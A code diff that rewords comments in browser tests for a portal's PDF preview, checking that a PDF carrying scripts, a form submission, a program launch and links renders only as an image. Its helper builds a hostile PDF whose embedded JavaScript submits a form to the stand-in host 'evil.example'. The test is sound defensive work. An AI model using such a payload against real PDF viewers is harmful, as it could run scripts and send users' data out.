@@ -60,7 +60,7 @@ test('FILE-02 FILE-11 in a browser without a PDF viewer the portal renders the p
       const at = (share: number) => Math.floor(canvas.height * share) * canvas.width * 4 + canvas.width;
       return [data[at(0.3)], data[at(0.9)]];
     });
-  // Inside of the black square, and on the empty paper below it.
+  // Inside the black square, and on the empty paper below it.
   expect(inks).toEqual([0, 255]);
   await dialog(page).getByRole('button', { name: 'Close' }).click();
 
@@ -75,7 +75,7 @@ test('FILE-02 FILE-11 in a browser without a PDF viewer the portal renders the p
   });
 });
 
-/** One page that would run a script, send what it holds, open a program and lead elsewhere, if anything of it ran. */
+/** A page that would run a script, submit a form, open a program and follow a link, if any of it ran. */
 function makeHostilePdf(): Buffer {
   const script = (act: string) =>
     `<</S/JavaScript/JS(globalThis.harmed=true;app.alert\\(1\\);${act}this.submitForm\\("http://evil.example/"\\);)>>`;
@@ -96,10 +96,10 @@ function makeHostilePdf(): Buffer {
   return Buffer.from(`%PDF-1.7\n${body}trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF`, 'latin1');
 }
 
-/** Path that a worker requests when it makes code from text. */
+/** Path that the worker requests when it creates code from text. */
 const CODE_MADE = '/code-made-from-text';
 
-/** Lets the worker that reads PDFs tell of it. */
+/** Makes the PDF worker report when it creates code from text. */
 const watchCode = (page: Page): Promise<unknown> =>
   page.route(/\/draw-pdf-worker-[^/]*\.js$/, async (route) => {
     const response = await route.fetch();
@@ -120,7 +120,7 @@ test('FILE-02 FILE-04 a PDF with scripts and links is only an image: no script r
   await openFile(page, makeHostilePdf());
   const pages = dialog(page).getByRole('region', { name: /^Content of first-aid/ });
   await expect(pages.getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
-  // The preview has the picture and its words alone: no field, no link, no frame of the file's own.
+  // The preview contains only images and text: no field, link or frame of the file.
   expect(
     await pages.evaluate((region) => [...region.querySelectorAll('*')].map((one) => one.tagName)),
   ).toEqual(['IMG', 'SPAN']);
